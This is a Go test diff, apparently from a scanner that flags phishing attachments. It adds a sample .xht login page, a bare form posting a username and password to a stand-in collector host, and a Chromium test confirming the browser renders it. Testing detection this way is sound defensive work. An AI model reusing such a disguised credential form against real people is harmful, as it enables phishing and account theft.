@@ -62,3 +62,35 @@ func TestSVGScriptHrefInChromium(t *testing.T) {
 		}
 	}
 }
+
+// xhtLogin is a login page as an .xht file, which Chromium opens as XHTML
+// (the page must be well-formed XML for it to show); its root is the
+// form, so nothing but the name says it is a page.
+const xhtLogin = `<form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.example.net/p" method="post">` +
+	`<input name="u"/><input type="password" name="p"/><button>Sign in</button></form>`
+
+func xhtCases() map[string][]sample {
+	return map[string][]sample{"html-credential-form": {
+		{"login page named .xht", attach(text("2", xhtLogin, named("Mailbox.xht"))), "2"},
+	}}
+}
+
+// TestXHTInChromium: Chromium shows an .xht file's form, so the .xht
+// name is read as a page.
+func TestXHTInChromium(t *testing.T) {
+	browser := chromium.Start(t, 5*time.Minute, chromedp.Flag("host-resolver-rules", "MAP * ~NOTFOUND"))
+	path := filepath.Join(t.TempDir(), "Mailbox.xht")
+	if err := os.WriteFile(path, []byte(xhtLogin), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	tab, cancel := chromedp.NewContext(browser)
+	defer cancel()
+	var action string
+	if err := chromedp.Run(tab, chromedp.Navigate("file://"+path),
+		chromedp.Evaluate(`(document.querySelector("input[type=password]") && document.forms[0].action) || ""`, &action)); err != nil {
+		t.Fatal(err)
+	}
+	if action != "https://collect.example.net/p" {
+		t.Errorf("Chromium does not show the .xht page's form (action %q)", action)
+	}
+}
